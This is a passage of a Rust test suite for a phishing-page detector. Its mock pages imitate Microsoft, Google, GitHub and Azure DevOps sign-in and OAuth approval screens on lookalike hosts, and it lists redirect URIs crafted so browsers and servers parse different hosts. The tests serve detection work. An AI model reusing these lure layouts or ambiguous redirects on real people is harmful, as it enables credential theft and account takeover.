        // The same layout with none of those signs is Microsoft's.
        (layout("https://northbridge-login.example/").text("Keep access to your mail and files."), "microsoft"),
        // Two product names are not the suite.
        (layout("https://northbridge-login.example/").text("Sign in to see your boards and pipelines."), "microsoft"),
    ];
    for (p, provider) in cases {
        let v = evaluate(&p);
        assert_eq!(v.level, Level::Danger, "{}: {:?}", p.ctx.url, v.findings);
        assert_eq!(v.provider.as_deref(), Some(provider), "{}", p.ctx.url);
    }
    // Two of Microsoft's phrases, one in a label, on a host of Azure DevOps's words: its copy.
    let two_phrases = |url: &str| {
        page(url)
            .title("Sign in")
            .heading("Sign in to continue")
            .form(url, "Email, phone, or Skype Password")
            .input(InputKind::Identifier, "u", "user", "Email, phone, or Skype")
            .password("Password")
            .text("Sign in to continue\nEmail, phone, or Skype Password\nCan't access your account? Sign in")
    };
    let v = evaluate(&two_phrases("https://boards-signin-portal.com/_signin"));
    assert_eq!((v.level, v.provider.as_deref()), (Level::Danger, Some("azure-devops")), "{:?}", v.findings);
    // The same two phrases on a host and path with no sign of Azure DevOps claim nothing (the
    // password labelled with Skype's name is another rule's).
    let v = evaluate(&two_phrases("https://northbridge-login.example/"));
    assert!(v.facts.claims.is_empty() && v.provider.as_deref() != Some("azure-devops"), "{:?}", v.findings);
    assert!(!rules(&v).contains(&"origin.untrusted-host"), "{:?}", v.findings);
    // The products named on a page that claims nobody make no claim.
    let v = evaluate(
        &page("https://ci-vendor.example/login")
            .title("Log in")
            .form("https://ci-vendor.example/login", "")
            .password("Password")
            .text(suite),
    );
    assert_eq!(v.level, Level::None, "{:?}", v.findings);
}

/// The Azure DevOps sign-in card shows Microsoft's logo and name beside its own: a copy that claims
/// both and names Azure DevOps as what the sign-in is for imitates Azure DevOps; one that names it
/// among other Microsoft products it opens is Microsoft's.
#[test]
fn a_card_signing_in_to_azure_devops_through_microsoft_is_azure_devops() {
    let card = |url: &str, line: &str| {
        page(url)
            .title("Backlog export \u{2014} view only")
            .logo("Microsoft")
            .text_line("Azure DevOps")
            .text_line(line)
            .text_line("Microsoft")
            .heading("Sign in")
            .form(&format!("{url}/collect"), "Email, phone, or Skype Password")
            .input(InputKind::Identifier, "", "loginfmt", "Email, phone, or Skype")
            .password("Password")
            .text_line("Use the same password as your Microsoft 365 mailbox.")
            .buttons(&["Sign in"])
    };
    let cases = [
        ("to continue to Azure DevOps \u{2014} your organization's boards, repos and pipelines", "azure-devops"),
        ("Sign in to Azure DevOps", "azure-devops"),
        // Named among the other products the account opens: Microsoft's sign-in.
        ("One account for Outlook, Teams, OneDrive and Azure DevOps", "microsoft"),
        ("to continue to Outlook, Teams and Azure DevOps", "microsoft"),
    ];
    for (line, provider) in cases {
        let v = evaluate(&card("https://boards-export.example/export", line));
        assert_eq!((v.level, v.provider.as_deref()), (Level::Danger, Some(provider)), "{line}: {:?}", v.findings);
    }
}

#[test]
fn a_business_named_like_a_product_is_not_the_product() {
    check(vec![
        case(
            "Outlook Furniture's own short name on its banner",
            bare_sign_in("https://outlook-furniture.com/account/login", "Account Login \u{2013} Outlook Furniture")
                .banner("OUTLOOK")
                .text_line("\u{a9} 2026 Outlook Furniture Co. \u{b7} Handmade in North Carolina"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "the product on a host that only adds sign-in wording",
            bare_sign_in("https://outlook-verify.com/", "Outlook Verify").banner("Outlook"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
    ]);
}

/// A help article that names Outlook, Gmail and Exchange in its sentences, beside the site's own
/// login, shows no tiles to pick from; the same names as a row of tiles above the password still do.
#[test]
fn provider_names_in_sentences_are_no_tiles() {
    let help = |line: &str| {
        page("https://www.phone-setup-help.example/email/outlook/")
            .title("Set up Outlook on your phone – Help")
            .heading("Set up Outlook on your phone")
            .text(&format!(
                "Install Microsoft Outlook from the App Store or Google Play.\n{line}\n\
                 Older Exchange servers may need the server name from your IT team.\nBook a phone technician"
            ))
            .form("https://www.phone-setup-help.example/login", "E-mail Password Log in")
            .email()
            .password("Password")
    };
    check(vec![
        case(
            "a help article's sentences",
            help("Gmail users: Outlook can add your Gmail account too; choose Google on the account screen."),
            Level::None,
            &[],
            &["lure.provider-picker"],
        ),
        case(
            "a row of tiles on the same page",
            help("Office 365 Outlook Gmail Other mail"),
            Level::Danger,
            &["lure.provider-picker"],
            &[],
        ),
    ]);
}

#[test]
fn the_picker_names_the_provider_of_its_first_tile() {
    let p = page("https://secure-docs-unlock.com/")
        .title("Secure document \u{2013} verify your email")
        .text("Sign in with your email provider to view the document\nOffice 365 Outlook Gmail Other mail")
        .form("https://secure-docs-unlock.com/collect", "Email or phone Password")
        .email()
        .password("Password");
    let v = evaluate(&p);
    assert_eq!(v.level, Level::Danger, "{v:#?}");
    assert!(rules(&v).contains(&"lure.provider-picker"), "{v:#?}");
    assert_eq!(v.provider.as_deref(), Some("microsoft"));
}

#[test]
fn documents_without_an_address_of_their_own_are_judged_as_their_page() {
    // The content script's snapshot says where the document is (about:srcdoc, data:, blob:); the
    // worker names the web page it belongs to.
    let in_document = |doc_url: &str, page_url: &str, content: Page| {
        let mut p = content.framed_by(&[page_url.trim_end_matches('/')]);
        p.snap.url = doc_url.into();
        p.ctx.url = page_url.into();
        p
    };
    let google_copy = || {
        page("https://x.invalid/")
            .title("Sign in - Google Accounts")
            .logo("Google")
            .heading("Sign in")
            .form("https://shared-with-you.net/collect", "")
            .email()
            .password("Enter your password")
    };
    let newsletter = || {
        page("https://x.invalid/")
            .heading("Get our weekly deals")
            .form("https://shop.example.com/subscribe", "")
            .email()
    };
    for doc in ["about:srcdoc", "about:blank", "data:text/html;base64,PGI+aGk8L2I+"] {
        let v = evaluate(&in_document(doc, "https://shared-with-you.net/", google_copy()));
        assert_eq!(v.level, Level::Danger, "{doc}: {v:#?}");
        assert_eq!(v.provider.as_deref(), Some("google"));
        let quiet = evaluate(&in_document(doc, "https://shop.example.com/", newsletter()));
        assert_eq!(quiet.level, Level::None, "{doc}: {quiet:#?}");
    }
    let blob = "blob:https://shared-with-you.net/5f0c1f4e-1b7a-4c55-9d1e-2c0b2a8d9e11";
    assert_eq!(evaluate(&in_document(blob, "https://shared-with-you.net/", google_copy())).level, Level::Danger);
    // A blob: of another origin, or a page of another origin, is a snapshot sent before a
    // navigation: it says nothing about this page.
    let other_blob = "blob:https://elsewhere.example/5f0c1f4e-1b7a-4c55-9d1e-2c0b2a8d9e11";
    for doc in [other_blob, "https://elsewhere.example/"] {
        let v = evaluate(&in_document(doc, "https://shared-with-you.net/", google_copy()));
        assert_eq!(v.level, Level::None, "{doc}: {v:#?}");
    }
}

/// A copy of GitHub's approval page off GitHub, with the mark and no sign-in form: its wording
/// ("This app would like to:", "Accepting these permissions…") makes it an approval page. A
/// cookie banner with the same kind of button ("We would like to use cookies", "Accept") does not.
#[test]
fn approval_copy_by_its_wording() {
    let copy = page("https://deployhelper-ci.io/login/oauth/authorize?client_id=1&scope=repo")
        .title("Authorize DeployHelper")
        .logo("GitHub")
        .heading("Authorize DeployHelper")
        .text(
            "Authorize DeployHelper DeployHelper by deployhelper-ci (unverified) This app would like to: \
             Repositories: full control of private repositories (repo) Accepting these permissions means \
             that you allow this app to use your data as specified in their terms of service and privacy statement.",
        )
        .buttons(&["Cancel", "Authorize deployhelper-ci"]);
    let banner = page("https://www.example-news.com/")
        .title("Example News")
        .logo("GitHub")
        .heading("Open source this week")
        .text(
            "We would like to use cookies to improve your experience. By accepting these cookies you agree \
             to our cookie policy. Open source this week: GitHub ships a new code search.",
        )
        .buttons(&["Accept all", "Reject"]);
    check(vec![
        case("GitHub approval copy off GitHub", copy, Level::Danger, &["origin.untrusted-host"], &[]),
        case("cookie banner beside a provider's name", banner, Level::None, &[], &["origin.untrusted-host"]),
    ]);
}

/// A page that shows the brand its host is named for, in its title and its header, presents itself
/// as that site: a provider's name or logo elsewhere on it is a mention, unless the provider's
/// layout, input markers or a disguised name say otherwise, or its credential form names the
/// provider.
#[test]
fn a_providers_name_beside_the_sites_own_brand_is_a_mention() {
    let partner = |url: &str| {
        page(url)
            .title("Copperline IT \u{2014} Client Portal")
            .banner("Copperline IT")
            .banner("MicrosoftSolutions Partner \u{b7} Modern Work")
            .heading("Your Microsoft 365 team, on call.")
            .text_line("MicrosoftCopperline IT")
            .form(&format!("{url}login"), "Email Password")
            .email()
            .password("Password")
    };
    let vault = page("https://vault.keyharbor.app/")
        .title("KeyHarbor Web Vault")
        .banner("KeyHarbor")
        .banner("GitHub")
        .banner("Microsoft 365 (work)")
        .banner("Google")
        .form("https://vault.keyharbor.app/unlock", "Master password")
        .input(InputKind::Password, "", "master", "Master password");
    let integrations = page("https://app.mailmerge-studio.com/settings/integrations")
        .title("Integrations \u{b7} MailMerge Studio")
        .banner("MailMerge Studio")
        .banner("Google Workspace")
        .text_line("Microsoft 365")
        .text_line("GitHub")
        .text("Google Workspace Connected as ada@northwind.example \u{b7} Gmail send Microsoft 365 Send campaigns through Outlook GitHub")
        .form("https://app.mailmerge-studio.com/settings/integrations/google/disconnect", "Confirm with your MailMerge Studio password")
        .password("Confirm with your MailMerge Studio password");
    // A shared-document page named for its host ("agreement-pdf-view.net": "Agreement"), the
    // provider named by an icon's label and a line beside the password form; no logo recognised
    // by its pixels.
    let shared_file = |line: &str| {
        page("https://agreement-pdf-view.net/d/ab19")
            .title("Signed_Agreement_2026.pdf - Drive")
            .logo("Google")
            .heading("Signed_Agreement_2026.pdf")
            .banner("Signed_Agreement_2026.pdf")
            .heading("Sign in to open this PDF")
            .text_line(&format!("The owner shared this file through Google Drive. {line}"))
            .form("https://agreement-pdf-view.net/doc/unlock", "Email Password")
            .email()
            .password("Password")
    };
    check(vec![
        case("a partner's own client portal", partner("https://portal.copperline-it.com/"), Level::None, &[], &["origin.untrusted-host"]),
        case(
            "a vendor named for the provider it serves",
            page("https://www.pipelinepilot.dev/azure-devops")
                .title("Pipeline Pilot for Azure DevOps")
                .heading("Pipeline Pilot for Azure DevOps")
                .banner("Pipeline Pilot")
                .form("https://www.pipelinepilot.dev/login", "Email Password")
                .email()
                .password("Password"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case("a vault's saved logins", vault, Level::None, &[], &["origin.untrusted-host"]),
        case(
            "a backlog under its own name whose card asks to continue to the provider beside a password",
            page("https://sprintyard-boards.com/backlog/fabrikam-eng")
                .title("Backlog - Sprintyard")
                .banner("Sprintyard \u{b7} backlog (1,200 items)")
                .heading("Sign in")
                .text_line("Azure DevOps")
                .text_line("to continue to Azure DevOps \u{b7} organization fabrikam-eng")
                .form("https://sprintyard-boards.com/_signin", "someone@example.com Password")
                .email()
                .password("Password"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "the same backlog whose own login continues to the site, beside a line naming the provider",
            page("https://sprintyard-boards.com/backlog/fabrikam-eng")
                .title("Backlog - Sprintyard")
                .banner("Sprintyard \u{b7} backlog (1,200 items)")
                .heading("Sign in")
                .text_line("Sync this backlog with Azure DevOps")
                .text_line("to continue to Sprintyard")
                .form("https://sprintyard-boards.com/_signin", "someone@example.com Password")
                .email()
                .password("Password"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),

        case("an app's integrations asking for its own password", integrations, Level::None, &[], &["lure.provider-picker"]),
        case(
            "the same portal whose form asks for the provider's account",
            partner("https://portal.copperline-it.com/")
                .form("https://portal.copperline-it.com/m", "Sign in with your Microsoft account")
                .password("Password"),
            Level::Danger,
            &["origin.untrusted-host", "credentials.prompt-off-origin"],
            &[],
        ),
        case(
            "a document page under its own name asking for the provider's account beside the password",
            shared_file("Use your Google account to view it."),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "the same page offering to connect the provider's account",
            shared_file("Connect your Google account to import it."),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "the same page asking for its own account, the provider named as the file's source",
            shared_file("Use your account to view it. Imported from Google Drive."),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "a prize page under its own name with a \"Sign in to GitHub\" card",
            page("https://www.indie-game-jam.com/")
                .title("Indie Game Jam")
                .heading("Indie Game Jam")
                .banner("Log in to claim your prize.")
                .heading("Sign in to GitHub")
                .form("https://www.indie-game-jam.com/", "Username or email address Password")
                .input(InputKind::Identifier, "", "login", "Username or email address")
                .password("Password"),
            Level::Danger,
            &["origin.untrusted-host", "credentials.prompt-off-origin"],
            &[],
        ),
        case(
            "a poll under its own name on a host where anyone can publish",
            page("https://voterank-289032.ngrok-free.app/")
                .title("VoteRank")
                .banner("VoteRank")
                .heading("Google")
                .form("https://voterank-289032.ngrok-free.app/login", "Email Password")
                .email()
                .password("Password"),
            Level::Danger,
            &["origin.content-host"],
            &[],
        ),
        case(
            "the own brand in the title only, not in the header",
            page("https://portal.copperline-it.com/")
                .title("Copperline IT")
                .heading("Microsoft")
                .form("https://portal.copperline-it.com/login", "Email Password")
                .email()
                .password("Password"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "a host named with generic words only",
            page("https://secure-docs-portal.com/")
                .title("Secure Docs Portal")
                .banner("Secure Docs Portal")
                .heading("Microsoft")
                .form("https://secure-docs-portal.com/v", "Email Password")
                .email()
                .password("Password"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "the provider's layout under the site's own name",
            page("https://northwind-payroll.com/")
                .title("Northwind Payroll")
                .banner("Northwind Payroll")
                .text("Northwind Payroll\nSign in to your account\nEmail or phone\nForgot my password\nCan't access your account?")
                .form("https://northwind-payroll.com/p", "Sign in to your account Email or phone Forgot my password")
                .input(InputKind::Identifier, "", "email", "Email or phone")
                .password("Password"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "the provider's input markers under the site's own name",
            page("https://portal.copperline-it.com/")
                .title("Copperline IT")
                .banner("Copperline IT")
                .heading("Microsoft")
                .form("https://portal.copperline-it.com/login", "")
                .input(InputKind::Identifier, "i0116", "loginfmt", "Email")
                .password("Password"),
            Level::Danger,
            &["proxy.page-markers"],
            &[],
        ),
        case(
            "a consent screen copied on the app's own site",
            page("https://docusafe-connect.com/consent")
                .title("DocuSafe wants to access your Google Account")
                .banner("DocuSafe")
                .heading("Google")
                .text("DocuSafe wants to access your Google Account. DocuSafe will be able to read your files.")
                .buttons(&["Cancel", "Allow"]),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
    ]);
}

/// A reseller's order form lists the provider's plans beside a sign-up for the reseller's own
/// portal: a password whose label names the site's own brand is for the site's account, so the
/// plans in the form neither claim the provider nor make the password the provider's. The same
/// page whose password is labelled for the provider still warns.
#[test]
fn a_password_for_the_sites_own_account_beside_a_plan_list_is_the_sites() {
    let reseller = |label: &str| {
        page("https://www.brightcloud-it.co.uk/microsoft-365/plans")
            .title("Microsoft 365 plans | BrightCloud IT")
            .banner("BrightCloud IT")
            .banner("Microsoft 365")
            .heading("Microsoft 365 Business Basic")
            .heading("Microsoft 365 Business Standard")
            .form(
                "https://www.brightcloud-it.co.uk/order",
                "Plan Microsoft 365 Business Basic Your domain (existing Microsoft 365 tenant or new) Work email",
            )
            .email()
            .password(label)
    };
    check(vec![
        case(
            "a reseller's own portal sign-up under Microsoft 365 plans",
            reseller("Choose a password for the BrightCloud portal"),
            Level::None,
            &[],
            &["origin.untrusted-host", "credentials.third-party-password"],
        ),
        case(
            "the same order form asking for the Microsoft 365 password",
            reseller("Your Microsoft 365 password"),
            Level::Danger,
            &["credentials.third-party-password"],
            &[],
        ),
        case(
            "the same order form whose label names the site and the provider",
            reseller("BrightCloud will sign in with your Microsoft 365 password"),
            Level::Danger,
            &["credentials.third-party-password"],
            &[],
        ),
    ]);
}

/// An app store's listing of a provider's app beside the store's own sign-in card ("Sign in to
/// AppHaven"): the listing's "Sign in with your Microsoft account after installing" is about the
/// app, not the store's password box. The same card headed for the provider still warns.
#[test]
fn a_card_headed_sign_in_to_the_site_is_the_sites_own() {
    let listing = |card_heading: &str| {
        page("https://www.apphaven.store/app/com.microsoft.office.outlook")
            .title("Microsoft Outlook – Apps on AppHaven")
            .banner_in("AAppHaven", "AAppHaven")
            .heading("Microsoft Outlook")
            .card("Microsoft Corporation\nInstall")
            .banner("Microsoft Corporation")
            .text_line(
                "Outlook lets you manage Outlook.com, Microsoft 365 and Gmail accounts in one app. Sign in with \
                 your Microsoft account after installing.",
            )
            .heading(card_heading)
            .card("Sign in")
            .form("https://www.apphaven.store/account/login", "Email Password")
            .email()
            .password("Password")
    };
    check(vec![
        case(
            "the store's own sign-in card beside the listing",
            listing("Sign in to AppHaven"),
            Level::None,
            &[],
            &["origin.untrusted-host", "credentials.prompt-off-origin"],
        ),
        case(
            "the same card headed for the provider's account",
            listing("Sign in with your Microsoft account"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
    ]);
}

/// A site whose name is written in a script its host cannot spell ("クラウドポート" on
/// cloudport.co.jp) shows it in its title and its header's link: a reseller's application form
/// with the provider's plans and a password for the site's own "my page" is the site's. The same
/// form asking for the provider's password, or a title ending in sign-in wording, still warns.
#[test]
fn a_site_name_in_its_own_script_is_its_own_brand() {
    let apply = |title: &str, home: &str, password: &str| {
        page("https://www.cloudport.co.jp/google-workspace/apply")
            .title(title)
            .banner_in(home, home)
            .banner(&format!("{home} Google Workspace 料金 導入事例 お問い合わせ"))
            .heading("Google Workspace お申し込み")
            .form(
                "https://www.cloudport.co.jp/apply",
                &format!("プラン Business Starter（Google Workspace） 会社名 メールアドレス {password}"),
            )
            .email()
            .password(password)
    };
    check(vec![
        case(
            "a reseller's application with a password for its own my-page",
            apply("Google Workspace お申し込み | クラウドポート", "ククラウドポート", "マイページ用パスワード"),
            Level::None,
            &[],
            &["origin.untrusted-host", "credentials.prompt-off-origin"],
        ),
        case(
            "the same form asking for the Google account's password",
            apply("Google Workspace お申し込み | クラウドポート", "ククラウドポート", "Google アカウントのパスワード"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "a title ending in sign-in wording names no site",
            apply("Google Workspace | ログイン", "ログイン", "マイページ用パスワード"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
    ]);
}

/// A form whose selected option names a provider asks for that provider's password, unless the
/// form sets up a mail server (a mail client's app password, a printer's SMTP service).
#[test]
fn a_provider_named_in_a_mail_server_form_is_the_server_not_a_sign_in() {
    let form = |url: &str, title: &str, text: &str, password: &str| {
        page(url).title(title).heading(title).form(&format!("{url}s"), text).email().password(password)
    };
    check(vec![
        case(
            "a provider preselected above email and password",
            form(
                "https://shipment-docs-hold.com/",
                "Release held shipment documents",
                "Account type Office 365 Email Password",
                "Password",
            ),
            Level::Danger,
            &["credentials.third-party-password"],
            &[],
        ),
        case(
            "a printer's SMTP service preselected",
            form(
                "https://printer-7f.scanbay.example/",
                "ScanBay MFP-4200",
                "Service Office 365 (smtp.office365.com) Sender account Account password",
                "Account password",
            ),
            Level::None,
            &[],
            &["credentials.third-party-password"],
        ),
        case(
            "a mail client's provider with an app password",
            form(
                "https://mail.wrenmail-client.example/",
                "Wrenmail",
                "Provider Gmail Email address App password",
                "App password",
            ),
            Level::None,
            &[],
            &["credentials.third-party-password"],
        ),
        case(
            "a word that only contains a protocol's letters",
            form(
                "https://shipment-docs-hold.com/",
                "Release held shipment documents",
                "Account type Gmail Smtpx Email Password",
                "Password",
            ),
            Level::Danger,
            &["credentials.third-party-password"],
            &[],
        ),
    ]);
}

/// GitHub's genuine approval page for `redirect_uri` (already encoded for the query) and critical
/// scopes.
fn github_approval_to(redirect_uri: &str) -> Page {
    let url = format!(
        "https://github.com/login/oauth/authorize?client_id=Iv1.8a61f9b3a7aba766&redirect_uri={redirect_uri}&scope=repo%20admin%3Aorg%20delete_repo%20workflow&state=s1"
    );
    let genuine = github_approval();
    Page { snap: consent_guard::PageSnapshot { url: url.clone(), ..genuine.snap }, ctx: page(&url).ctx }
}

/// A redirect written so that browsers and servers read different hosts makes the genuine approval
/// page caution; `@` or encoded characters past the authority leave it genuine.
#[test]
fn redirect_with_an_ambiguous_host_is_caution() {
    let fires = [
        "https%3A%2F%2Fci.contoso.com%5C%40ci-artifacts.pages.dev%2Fcb",
        "https%3A%2F%2Fci.contoso.com%255C%2540ci-artifacts.pages.dev%2Fcb",
        "https%3A%2F%2Fci.contoso.com%2540ci-artifacts.pages.dev%2Fcb",
        "https%3A%2F%2Fci.contoso.com%09.ci-artifacts.pages.dev%2Fcb",
        "https%3A%2F%2Fci.contoso.com%5Cx%5C%40ci-artifacts.pages.dev%2Fcb",
    ];
    let mut cases = Vec::new();
    for uri in fires {
        cases.push(case(
            "ambiguous redirect",
            github_approval_to(uri),
            Level::Caution,
            &["redirect.ambiguous-host"],
            &[],
        ));
    }
    let quiet = [
        "https%3A%2F%2Fci.contoso.com%2Fcb%3Fnotify%3Dops%40contoso.com",
        "https%3A%2F%2Fci.contoso.com%2Fcb%23ops%40contoso.com",
        "https%3A%2F%2Fci.contoso.com%2Fbuilds%2Fnightly%2520run%2F%2540team",
    ];
    for uri in quiet {
        cases.push(case("plain redirect", github_approval_to(uri), Level::Genuine, &[], &["redirect.ambiguous-host"]));
    }
    check(cases);
}

#[test]
fn a_provider_button_in_any_language_is_federation_not_a_claim() {
    // A site's own login (its own name, its own password) with one social-login link.
    let own = |host: &str, heading: &str, button: &str| {
        page(&format!("https://{host}/login"))
            .title(heading)
            .heading(heading)
            .form(&format!("https://{host}/session"), "")
            .email()
            .password("Password")
            .text_line_in(button, button)
    };
    let mut cases = Vec::new();
    for (name, button) in [
        ("German", "Weiter mit Google"),
        ("German, verb last", "Mit Microsoft anmelden"),
        ("French", "Continuer avec Google"),
        ("French, Google's button", "Se connecter avec Google"),
        ("Spanish", "Iniciar sesión con Microsoft"),
        ("Portuguese", "Entrar com o Google"),
        ("Portuguese, account", "Fazer login com a conta Microsoft"),
        ("Italian", "Accedi con Microsoft"),
        ("Dutch", "Inloggen met Google"),
        ("Japanese", "Microsoft アカウントでログイン"),
        ("Japanese, Google's button", "Google で続ける"),
        ("Chinese", "使用 Google 账号登录"),
        ("Chinese, traditional", "使用 Google 帳戶登入"),
        ("Korean", "Google 계정으로 로그인"),
        ("Polish", "Zaloguj się przez Google"),
        ("Turkish", "Google ile devam et"),
        ("Russian", "Войти через Google"),
        ("English, register", "Register with GitHub"),
        ("Arabic", "المتابعة باستخدام Google"),
        ("Arabic, sign in", "تسجيل الدخول باستخدام Microsoft"),
        ("Arabic, bidi marks around the name", "\u{200F}تسجيل الدخول باستخدام \u{2066}Google\u{2069}"),
        ("Hebrew", "המשך עם Google"),
        ("Hebrew, sign in", "התחברות באמצעות Google"),
        ("Hebrew, bidi marks around the name", "\u{200F}היכנס באמצעות \u{200E}Microsoft\u{200E}"),
        ("Vietnamese", "Đăng nhập bằng Google"),
        ("Vietnamese, continue", "Tiếp tục với Microsoft"),
        ("Indonesian", "Masuk dengan Google"),
        ("Ukrainian", "Увійти через Google"),
        ("Czech", "Přihlásit se přes Google"),
        ("Swedish", "Logga in med Google"),
        ("Danish", "Log ind med Microsoft"),
        ("Norwegian", "Logg på med GitHub"),
        ("Finnish", "Kirjaudu Google-tilillä"),
        ("Greek", "Σύνδεση με Google"),
        ("Hungarian", "Bejelentkezés Google-fiókkal"),
        ("Romanian", "Conectați-vă cu Google"),
        ("Hindi", "Google से साइन इन करें"),
        ("Hindi, continue", "Google के साथ जारी रखें"),
        ("Hindi, a virama in the verb", "Google से लॉग इन करें"),
        ("Thai", "ดำเนินการต่อด้วย Google"),
        ("Thai, sign in", "เข้าสู่ระบบด้วย Google"),
        ("Thai, account", "ลงชื่อเข้าใช้ด้วยบัญชี Microsoft"),
        ("Lao", "ສືບຕໍ່ດ້ວຍ Google"),
        ("Khmer", "បន្តជាមួយ Google"),
        ("Myanmar", "Google ဖြင့် ဆက်လုပ်ပါ"),
    ] {
        cases.push(case(
            name,
            own("app.example-shop.test", "Anmelden", button),
            Level::None,
            &[],
            &["origin.untrusted-host", "credentials.prompt-off-origin"],
        ));
    }
    // The same wording outside a control, as the heading of the password card, claims.
    for (name, heading) in [
        ("German heading", "Mit Microsoft anmelden"),
        ("French heading", "Continuer avec Microsoft"),
        ("Japanese heading", "Microsoft アカウントでサインイン"),
        ("Russian heading", "Войти через Google"),
        ("French account heading", "Connectez-vous à votre compte Microsoft"),
        ("Spanish account heading", "Inicia sesión en tu cuenta de Microsoft"),
        ("German account heading", "Melden Sie sich mit Ihrem Microsoft-Konto an"),
        ("Arabic account heading", "تسجيل الدخول إلى حساب Microsoft"),
        ("Arabic heading with bidi marks", "\u{200F}تسجيل الدخول إلى حساب \u{2066}Microsoft\u{2069}"),
        ("Hebrew account heading", "התחברות לחשבון Microsoft"),
        ("Vietnamese account heading", "Đăng nhập vào tài khoản Microsoft"),
        ("Indonesian account heading", "Masuk ke akun Microsoft"),
        ("Ukrainian heading", "Увійти через Google"),
        ("Greek heading", "Σύνδεση με Microsoft"),
        ("Hindi heading", "Microsoft से साइन इन करें"),
    ] {
        cases.push(case(
            name,
            page("https://portal-login.test/signin")
                .heading(heading)
                .form("https://portal-login.test/post", "")
                .email()
                .password("Password"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ));
    }
    // Sign-in wording in the host's name is no brand of the site's own: "compte" in the host,
    // the title and the heading does not make the heading's Microsoft a mention.
    cases.push(case(
        "a host named with French sign-in wording",
        page("https://messagerie-verif-compte.fr/auth")
            .title("Vérification du compte")
            .banner("Connectez-vous à votre compte Microsoft")
            .form("https://messagerie-verif-compte.fr/verif", "")
            .email()
            .password("Mot de passe"),
        Level::Danger,
        &["origin.untrusted-host"],
        &[],
    ));
    // A word that joins sign-in wording to a name in a control ("com", "de", "z") is another
    // word outside one: a drawn address bar is no sign-in wording around GitHub.
    cases.push(case(
        "an address naming the provider beside a trial signup",
        page("https://www.prpilot.app/")
            .title("PR Pilot — ship pull requests faster")
            .banner("🔒 github.com/acme/api/pulls")
            .form("https://www.prpilot.app/trial", "")
            .email(),
        Level::None,
        &[],
        &["origin.untrusted-host"],
    ));
    // A line that says more than signing in is about the provider, in any language.
    cases.push(case(
        "a help line naming the provider's account",
        own("app.example-shop.test", "Anmelden", "Weiter mit Google")
            .text_line("Bei Problemen mit Ihrem Microsoft-Konto hilft Ihnen unser Kundendienst gern weiter"),
        Level::None,
        &[],
        &["origin.untrusted-host"],
    ));
    // A control whose other words are not sign-in wording still claims.
    cases.push(case(
        "a link naming the provider with other words",
        own("app.example-shop.test", "Anmelden", "Microsoft Kundendienst Hotline anrufen"),
        Level::Danger,
        &["origin.untrusted-host"],
        &[],
    ));
    check(cases);
}

#[test]
fn a_line_asking_for_the_password_used_at_a_provider_claims_it() {
    // A made-up site under its own name whose card asks for the password the person uses at a
    // provider, with no logo: a third party asking for the provider's password.
    let card = |host: &str, brand: &str, line: &str| {
        page(&format!("https://{host}/unlock"))
            .title(&format!("{brand} - payslips"))
            .banner(brand)
            .heading("Unlock your payslips")
            .text_line(line)
            .form(&format!("https://{host}/session"), "Work email Password Open")
            .email()
            .password("Password")
    };
    let signup = |line: &str| {
        page("https://app.quillmere.example/signup")
            .title("Create your Quillmere account")
            .heading("Create your Quillmere account")
            .text_line(line)
            .form("https://app.quillmere.example/signup", "Email Choose a password Create account")
            .email()
            .password("Choose a password")
    };
    check(vec![
        case(
            "a payroll card asking for the password used for Microsoft 365",
            card(
                "ledgerlark-payroll.com",
                "Ledgerlark Payroll",
                "Ledgerlark keeps your payslips private. Confirm the password you use for Microsoft 365.",
            ),
            Level::Danger,
            &["origin.untrusted-host", "credentials.prompt-off-origin"],
            &[],
        ),
        case(
            "the same asking for the password used for Gmail",
            card("ledgerlark-payroll.com", "Ledgerlark Payroll", "To open them, enter the password you use for Gmail"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "the same in German, for the Microsoft account",
            card(
                "ledgerlark-payroll.com",
                "Ledgerlark Payroll",
                "Geben Sie das Passwort ein, das Sie für Ihr Microsoft-Konto verwenden.",
            ),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "the same in French, for GitHub",
            card(
                "ledgerlark-payroll.com",
                "Ledgerlark Payroll",
                "Saisissez le mot de passe que vous utilisez pour GitHub.",
            ),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "the same card with no brand of its own",
            page("https://payslip-unlock.example.net/")
                .heading("Unlock your payslips")
                .text_line("Confirm the password you use for your Microsoft account.")
                .form("https://payslip-unlock.example.net/s", "Email Password")
                .email()
                .password("Password"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "the same in Japanese, for the Microsoft account (no word breaks)",
            card(
                "ledgerlark-payroll.com",
                "Ledgerlark Payroll",
                "給与明細はLedgerlarkで安全に保管されています。明細を開くには、Microsoft アカウントのパスワードを入力してください。",
            ),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "the same in Japanese, for the password used for Gmail",
            card(
                "ledgerlark-payroll.com",
                "Ledgerlark Payroll",
                "チケットを受け取るには、チケットが届いたメールアドレスの Gmail で使っているパスワードを入力してください。",
            ),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "a Japanese sign-up page's advice not to reuse the password used for Gmail",
            signup("Gmail で使っているパスワードを再利用しないでください。"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "a Japanese help article: never enter the Microsoft account's password on another site",
            page("https://help.tallowmark.example/ja/articles/phishing")
                .title("フィッシングの見分け方 - Tallowmark ヘルプ")
                .heading("フィッシングの見分け方")
